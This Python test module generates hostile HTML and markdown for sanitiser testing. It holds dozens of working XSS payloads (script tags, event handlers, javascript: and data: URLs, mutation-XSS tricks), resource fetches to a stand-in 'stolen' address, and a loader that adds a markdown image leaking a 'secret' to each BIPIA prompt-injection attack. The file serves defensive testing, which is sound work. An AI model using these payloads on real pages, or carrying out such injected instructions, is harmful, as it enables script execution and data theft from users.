"""What hostile documents, names and answers try on a page: to run a script, to fetch something, to leave a form."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path

RUN = "window.ran=1"
AWAY = "http://127.0.0.1:9/stolen"
HAND_MADE = [
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f'<img src="{AWAY}?img">',
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<iframe src='javascript:parent.{RUN}'></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<object data='{AWAY}'></object>",
    f"<embed src='{AWAY}'>",
    f"<link rel=stylesheet href='{AWAY}.css'>",
    f"<style>@import '{AWAY}.css'; body{{background:url({AWAY})}}</style>",
    f"<div style=\"background:url('{AWAY}')\">x</div>",
    f"<meta http-equiv=refresh content='0;url={AWAY}'>",
    f"<base href='{AWAY}'>",
    f"<form action='{AWAY}'><button autofocus onfocus={RUN}>x</button></form>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<math><mtext></p><img src=x onerror={RUN}></mtext></math>",
    f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\"></noscript>",
    f"<template><img src=x onerror={RUN}></template>",
    f"</mark><img src=x onerror={RUN}>",
    f"\"'><img src=x onerror={RUN}>",
    f"<a href='javascript:{RUN}'>click</a>",
    f"[click](javascript:{RUN})",
    f"[click](data:text/html,<script>{RUN}</script>)",
    f"[click](JaVaScRiPt:{RUN})",
    f"![alt]({AWAY}?markdown)",
    f"![alt][far]\n\n[far]: {AWAY}?reference",
    f"[![alt]({AWAY}?nested)]({AWAY})",
    f"<{AWAY}>",
    f"`<img src=x onerror={RUN}>`",
    f"```html\n<script>{RUN}</script>\n```",
    f"| <img src=x onerror={RUN}> | b |\n|---|---|\n| <script>{RUN}</script> | c |",
    f"[x](http://a\"onmouseover=\"{RUN})",
    f"&lt;img src=x onerror={RUN}&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"<ſcript>{RUN}</ſcript>",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"<img id=app name=cookie src=x onerror={RUN}>",
    f"<a id=data-sentence data-citation=1 onclick={RUN}>1</a>",
    f"<blockquote cite='{AWAY}'><q cite='{AWAY}'>x</q></blockquote>",
    f"<dialog open><form method=dialog action='{AWAY}'><button formaction='javascript:{RUN}'>x</button></form></dialog>",
]
"""One of each kind; a test shows all of them."""

_HANDLERS = (
    "onerror onload onclick onfocus onblur onmouseover onmouseenter onpointerover onanimationstart onanimationend "
    "ontransitionend ontoggle onbeforetoggle onscrollend onwheel onauxclick onpaste oncut ondrag onresize onpageshow "
    "onhashchange onbegin onend onrepeat oncanplay onbeforeinput onformdata oncontentvisibilityautostatechange"
).split()
_TAGS = (
    "img src=x", "svg", "video src=x", "audio src=x", "body", "iframe src=about:blank", "input autofocus", "details open",
    "marquee", "select autofocus", "style", "math href=x", "a href=# autofocus tabindex=0", "object data=x", "custom-x",
)  # fmt: skip
_SCHEMES = (
    "javascript:{run}", "JaVaScRiPt:{run}", "java\tscript:{run}", "&#106;avascript:{run}", " javascript:{run}",
    "javascript&colon;{run}", "data:text/html,<script>{run}</script>", "data:text/html;base64,PHNjcmlwdD4=",
    "vbscript:{run}", "blob:{away}", "filesystem:{away}", "view-source:{away}", "\x01javascript:{run}",
)  # fmt: skip
_PLACES = (
    "[click]({url})", "<a href='{url}'>click</a>", "[a][b]\n\n[b]: {url}", "<{url}>", "<form action='{url}'><button>x",
    "<iframe src='{url}'></iframe>", "<svg><a href='{url}'><text>x</text></a></svg>", "<area href='{url}' alt=x>",
)  # fmt: skip
_FETCHES = (
    "<img srcset='{away} 2x'>", "<picture><source srcset='{away}'></picture>", "<video poster='{away}'></video>",
    "<audio src='{away}'></audio>", "<track src='{away}'>", "<script src='{away}'></script>", "<input type=image src='{away}'>",
    "<body background='{away}'>", "<table background='{away}'>", "<link rel=prefetch href='{away}'>",
    "<link rel=dns-prefetch href='{away}'>", "<link rel=preload as=image href='{away}'>", "<svg><image href='{away}'/></svg>",
    "<svg><use href='{away}#x'/></svg>", "<svg><feImage href='{away}'/></svg>", "<p style=\"list-style:url('{away}')\">",
    "<p style=\"behavior:url('{away}')\">", "<style>@font-face{{font-family:x;src:url({away})}}</style>",
    "![x]({away})", "![x]({away} 'title')", "[![x]({away})](x)", "![x](<{away}>)", "<frameset><frame src='{away}'>",
    "<meta http-equiv='Content-Security-Policy' content=\"report-uri {away}\">", "<portal src='{away}'></portal>",
    "<a ping='{away}' href='{away}'>x</a>", "<math><maction actiontype='statusline' href='{away}'>x</maction></math>",
)  # fmt: skip


def composed() -> Iterator[str]:
    """Every handler on tags in turn and at the end of an attribute, every address in every place, every fetch."""
    for number, handler in enumerate(_HANDLERS):
        for step in range(4):
            yield f"<{_TAGS[(number + 4 * step) % len(_TAGS)]} {handler}={RUN}>"
        yield f"\"'`><x {handler}={RUN}//"
        yield f"<img\n{handler.upper()}\t=\"{RUN}\"\x0csrc=x "
    for scheme in _SCHEMES:
        url = scheme.format(run=RUN, away=AWAY)
        for place in _PLACES:
            yield place.format(url=url)
    for fetch in _FETCHES:
        yield fetch.format(away=AWAY)
        yield f"</textarea></title></style></script>{fetch.format(away=AWAY)}"


def injections(folder: Path) -> list[str]:
    """Instructions hidden in text: the attacks of BIPIA (train part), each with a picture that would carry an answer
    away. `folder` holds `text_attack_train.json` and `code_attack_train.json`."""
    found = []
    for name in ("text_attack_train.json", "code_attack_train.json"):
        for attacks in json.loads((folder / name).read_text(encoding="utf-8")).values():
            found += [f"{attack} ![done]({AWAY}?q=secret)" for attack in attacks]
    return found
